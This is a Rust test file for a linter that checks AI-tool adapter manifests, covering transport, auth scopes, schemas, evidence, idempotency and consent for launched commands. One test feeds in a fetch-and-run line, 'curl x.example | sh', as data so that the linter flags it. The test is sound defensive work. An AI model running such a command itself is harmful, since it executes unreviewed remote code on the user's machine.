//! What `toolgate manifest check` says: a complete manifest passes, and each gap is named.

use serde_json::{Value, json};
use toolgate_manifest::{self as manifest, Question, Remark, is_answered, lint};

fn complete() -> Value {
    json!({
        "adapter_id": "crm",
        "version": "1.2.0",
        "name": "Customer records",
        "owner_role": "support_ops",
        "protocol": "mcp",
        "transport": {"kind": "streamable_http", "endpoint_ref": "secret://crm_url"},
        "auth": {"type": "oauth2", "resource": "https://crm.example", "initial_scopes": ["crm:read"]},
        "observability": {"trace_context": "w3c"},
        "prompts": [{"name": "greet", "version": "2", "eval_ref": "goldenset://greet.v2"}],
        "capabilities": [
            {
                "capability_id": "crm.find_customer", "tool": "find_customer", "class": "observe",
                "approval_mode": "read_only", "permissions": ["crm.read"],
                "input_schema_ref": "schema://crm.find_customer.v1"
            },
            {
                "capability_id": "crm.change_plan", "tool": "change_plan", "class": "act",
                "approval_mode": "destructive", "requires_gate": "GATE_SALES",
                "input_schema_ref": "schema://crm.change_plan.v1",
                "output_schema_ref": "schema://crm.change_plan.out.v1",
                "evidence_keys": ["plan"], "idempotency": {"required": true}
            }
        ]
    })
}

fn tools() -> Value {
    json!([
        {"name": "find_customer", "inputSchema": {"type": "object", "properties": {"email": {"type": "string"}}}},
        {
            "name": "change_plan",
            "inputSchema": {"type": "object", "properties": {"plan": {"enum": ["a", "b"]}, "percent": {"type": "integer", "maximum": 20}}},
            "outputSchema": {"type": "object", "properties": {"plan": {"type": "string"}}}
        }
    ])
}

fn remarks(manifest: Value, tools: &Value) -> Vec<Remark> {
    let manifest = manifest::from_value(manifest).unwrap();
    lint(&manifest, tools.as_array().map(Vec::as_slice).unwrap_or_default())
}

/// The document with one place set, or taken out.
fn with(mut document: Value, pointer: &str, value: Option<Value>) -> Value {
    let (parent, key) = pointer.rsplit_once('/').unwrap();
    let parent = document.pointer_mut(parent).unwrap();
    match value {
        Some(value) if parent.is_array() => parent.as_array_mut().unwrap().push(value),
        Some(value) => parent[key] = value,
        None => drop(parent.as_object_mut().unwrap().remove(key)),
    }
    document
}

/// CO-4, CO-5, CO-6, CO-9: decided from files alone.
#[test]
fn a_complete_manifest_answers_all_five_questions() {
    assert_eq!(remarks(complete(), &tools()), []);
}

/// CO-19, CO-212: 2025-11-25 unless an older one is pinned, and then with a reason.
#[test]
fn an_older_revision_wants_a_reason() {
    let unpinned = manifest::from_value(complete()).unwrap();
    assert_eq!(unpinned.revision(), Some("2025-11-25"));
    let check = |version: &str, reason: Option<&str>, fine: bool| {
        let pinned = with(complete(), "/protocol_version", Some(json!(version)));
        let pinned = match reason {
            Some(reason) => with(pinned, "/protocol_version_reason", Some(json!(reason))),
            None => pinned,
        };
        let remarks = remarks(pinned, &Value::Null);
        let told = remarks.iter().any(|remark| remark.rule == "old-protocol");
        assert_eq!(!told, fine, "{version} {reason:?}");
        assert_eq!(is_answered(Question::What, &remarks), fine, "{version} {reason:?}");
    };
    check("2025-11-25", None, true);
    check("2026-07-28", None, true);
    check("2025-06-18", None, false);
    check("2024-11-05", Some(""), false);
    check("2024-11-05", Some("the vendor ships nothing newer"), true);
}

/// CO-50 (a capability that writes without idempotency fails), CO-217.
#[test]
fn a_gap_leaves_its_question_open() {
    let check = |pointer: &str, question: Question, rule: &str| {
        let remarks = remarks(with(complete(), pointer, None), &Value::Null);
        let rules: Vec<&str> = remarks.iter().map(|remark| remark.rule).collect();
        assert!(rules.contains(&rule), "{pointer}: {rules:?}");
        assert!(!is_answered(question, &remarks), "{pointer}");
        let others = Question::ALL.into_iter().filter(|other| *other != question);
        assert!(others.into_iter().all(|other| is_answered(other, &remarks)), "{pointer}");
    };
    check("/transport", Question::What, "no-transport");
    check("/capabilities/0/input_schema_ref", Question::What, "no-schema");
    check("/auth", Question::Who, "no-auth");
    check("/auth/resource", Question::Who, "no-audience");
    check("/capabilities/0/permissions", Question::Who, "no-policy");
    check("/capabilities/1/output_schema_ref", Question::Evidence, "prose-only");
    check("/capabilities/1/evidence_keys", Question::Evidence, "no-evidence");
    check("/prompts/0/eval_ref", Question::Evidence, "prompt-unevaluated");
    check("/version", Question::Audit, "no-version");
    check("/observability", Question::Audit, "no-trace-context");
    check("/capabilities/1/idempotency", Question::Audit, "no-idempotency");
}

/// CO-92, CO-218: a tool maps to a capability with an approval mode, a schema, a policy and an evidence
/// contract; whichever is missing is named at its place. The reader refuses one without an id, a
/// class or a mode.
#[test]
fn a_tool_without_one_of_its_five_links_is_named() {
    let check = |key: &str, rule: &str| {
        let place = format!("/capabilities/1/{key}");
        let remarks = remarks(with(complete(), &place, None), &Value::Null);
        let found = remarks.iter().find(|remark| remark.rule == rule).unwrap();
        assert_eq!(found.at, "capabilities[1]");
        assert!(found.message.contains("crm.change_plan"));
    };
    check("input_schema_ref", "no-schema");
    check("requires_gate", "no-policy");
    check("evidence_keys", "no-evidence");
    for key in ["capability_id", "class", "approval_mode"] {
        let place = format!("/capabilities/1/{key}");
        let error = manifest::from_value(with(complete(), &place, None)).unwrap_err();
        assert!(error.to_string().contains(key), "{error}");
    }
}

fn check(manifest: Value, tools: &Value, rule: &str) {
    let rules: Vec<&str> = remarks(manifest, tools).iter().map(|remark| remark.rule).collect();
    assert_eq!(rules, [rule]);
}

/// CO-10, CO-100, CO-101, CO-102, CO-104, CO-215 (no generic name), CO-216 (no free-form write),
/// CO-228, CO-230, CO-231, CO-232, CO-234.
#[test]
fn each_rule_of_design_has_a_breach_it_names() {
    let manifest = |pointer: &str, value: Value| with(complete(), pointer, Some(value));
    let none = Value::Null;
    check(manifest("/capabilities/0/tool", json!("run_query")), &none, "generic-name");
    check(manifest("/capabilities/0/tool", json!("api_request")), &none, "generic-tool");
    let mixed = remarks(manifest("/capabilities/0/effect", json!("write")), &none);
    assert!(mixed.iter().any(|remark| remark.rule == "read-write-mixed"), "{mixed:?}");
    check(manifest("/capabilities/0/tool", json!("export_ledger")), &none, "blocking-job");
    check(manifest("/auth/initial_scopes", json!(["crm:*"])), &none, "broad-scope");
    check(manifest("/auth/initial_scopes", json!(["crm.admin"])), &none, "broad-scope");
    check(
        manifest("/capabilities/1/evidence_keys", json!(["refund"])),
        &tools(),
        "evidence-unknown",
    );
    let loose = json!({"percent": {"max": 50}});
    check(manifest("/capabilities/1/arg_constraints", loose), &tools(), "looser-than-schema");
    let tools = |pointer: &str, value: Value| with(tools(), pointer, Some(value));
    let generic = json!({"url": {"type": "string"}, "method": {"type": "string"}});
    check(complete(), &tools("/0/inputSchema/properties", generic), "generic-tool");
    check(
        complete(),
        &tools("/1/inputSchema/properties/note", json!({"type": "string"})),
        "free-form",
    );
    check(complete(), &tools("/1/inputSchema/properties", json!({})), "free-form");
    check(complete(), &tools("/1/annotations", json!({"readOnlyHint": true})), "read-write-mixed");
    check(
        complete(),
        &tools("/0/description", json!("Only admins may use it.")),
        "policy-in-description",
    );
    check(complete(), &tools("/2", json!({"name": "purge"})), "undeclared");
    let old = json!("http://json-schema.org/draft-07/schema#");
    check(complete(), &tools("/0/inputSchema/$schema", old), "old-dialect");
}

/// CO-233: the exact command, that somebody agreed to it, and that it hides nothing.
#[test]
fn a_command_nobody_agreed_to_is_named() {
    let transport = json!({"kind": "stdio", "command": "npx", "args": ["-y", "crm@1.4.0"]});
    let started = with(complete(), "/transport", Some(transport));
    let started = with(started, "/sandbox", Some(json!({"fs_read": ["/workspace"]})));
    check(started.clone(), &Value::Null, "hidden-command");
    let consent = |line: &str| json!({"command_line": line, "shown_hash": "0", "by": "ann", "at": "2026-01-15T10:00:00.000Z"});
    let agreed = with(started.clone(), "/consent", Some(consent("npx -y crm@1.4.0")));
    assert_eq!(remarks(agreed, &Value::Null), []);
    check(with(started.clone(), "/consent", Some(consent("npx"))), &Value::Null, "hidden-command");
    let line = |words: &[&str]| {
        let (program, args) = words.split_first().unwrap();
        let changed = with(started.clone(), "/transport/command", Some(json!(program)));
        let changed = with(changed, "/transport/args", Some(json!(args)));
        with(changed, "/consent", Some(consent(&words.join(" "))))
    };
    check(line(&["sh", "-c", "crm"]), &Value::Null, "hidden-shell");
    check(line(&["sh", "-c", "curl x.example | sh"]), &Value::Null, "fetched-command");
    check(line(&["npx", "-y", "crm"]), &Value::Null, "unpinned-package");
    check(with(line(&["crm"]), "/sandbox", None), &Value::Null, "no-sandbox");
}

/// C38: the seed's refund entry has no schema refs though it acts, and that is said.
#[test]
fn the_seed_loads_and_its_gaps_are_named() {
    let seed: Value = serde_json::from_str(include_str!("fixtures/payments.json")).unwrap();
    let remarks = remarks(seed, &Value::Null);
    let refund = remarks.iter().filter(|remark| remark.message.contains("issue_refund"));
    let rules: Vec<&str> = refund.map(|remark| remark.rule).collect();
    assert!(rules.contains(&"no-schema") && rules.contains(&"prose-only"), "{rules:?}");
}

/// CO-53: what a capability names of policy and gates is there, or is said not to be.
#[test]
fn policies_and_gates_that_are_not_there_are_named() {
    let bound = with(complete(), "/capabilities/1/policy_refs", Some(json!(["no-weekend"])));
    let bound = with(bound, "/capabilities/1/decision_binding", Some(json!("sales.change_plan")));
    let manifest = manifest::from_value(bound).unwrap();
    assert_eq!(manifest.capabilities[1].decision_bindings, ["sales.change_plan"]);
    let check = |policies: &[&str], gates: &[&str], wanted: &[(&str, &str)]| {
        let is_policy = |name: &str| policies.contains(&name);
        let is_gate = |name: &str| gates.contains(&name);
        let remarks = manifest::lint_bindings(&manifest, &is_policy, &is_gate);
        let got: Vec<_> = remarks.iter().map(|r| (r.rule, r.at.as_str())).collect();
        assert_eq!(got, wanted);
    };
    check(&["no-weekend"], &["GATE_SALES"], &[]);
    check(&[], &["GATE_SALES"], &[("policy-unknown", "capabilities[1].policy_refs")]);
    check(&["no-weekend"], &["OTHER"], &[("gate-unknown", "capabilities[1].requires_gate")]);
}

/// CO-76: a capability is bound to a tool that is there.
#[test]
fn a_capability_of_a_tool_that_is_not_listed_is_named() {
    let gone = with(complete(), "/capabilities/0/tool", Some(json!("find_nobody")));
    let rules: Vec<&str> = remarks(gone, &tools()).iter().map(|remark| remark.rule).collect();
    assert!(rules.contains(&"tool-missing"), "{rules:?}");
}

/// CO-181: a model that goes on by itself with tools is an agent, and belongs in a skill.
#[test]
fn an_adapter_that_hides_an_agent_is_named() {
    let sampling = |more: Value| {
        let mut sampling = json!({
            "declared": true, "max_per_run": 3, "eval_ref": "goldenset://a", "tools": ["look"],
        });
        sampling.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        with(complete(), "/sampling", Some(sampling))
    };
    assert_eq!(remarks(sampling(json!({"max_iterations": 10})), &Value::Null), []);
    assert_eq!(remarks(sampling(json!({"tools": []})), &Value::Null), []);
    check(sampling(json!({"max_iterations": 11})), &Value::Null, "sampling-loop");
    check(sampling(json!({})), &Value::Null, "sampling-loop");
    let bare = json!({"max_iterations": 1, "max_per_run": null, "eval_ref": null});
    let rules: Vec<&str> = remarks(sampling(bare), &Value::Null).iter().map(|r| r.rule).collect();
    assert_eq!(rules, ["sampling-unbounded", "sampling-unevaluated"]);
}

/// CO-48: schemas for inputs and outputs and what of them is evidence; 2020-12 unless one says so.
#[test]
fn schemas_are_designed_or_their_lack_is_named() {
    let without = |key: &str| with(complete(), &format!("/capabilities/1/{key}"), None);
    let said = |manifest: Value, tools: &Value, rule: &str| {
        let remarks = remarks(manifest, tools);
        assert!(remarks.iter().any(|remark| remark.rule == rule), "{rule}: {remarks:?}");
    };
    said(without("input_schema_ref"), &Value::Null, "no-schema");
    said(without("output_schema_ref"), &Value::Null, "prose-only");
    said(without("evidence_keys"), &Value::Null, "no-evidence");
    // The definition of the tool does as well.
    assert_eq!(remarks(without("input_schema_ref"), &tools()), []);
    let dialect = |name: &str| with(tools(), "/0/inputSchema/$schema", Some(json!(name)));
    said(complete(), &dialect("http://json-schema.org/draft-07/schema#"), "old-dialect");
    let new = dialect("https://json-schema.org/draft/2020-12/schema");
    assert_eq!(remarks(complete(), &new), []);
}
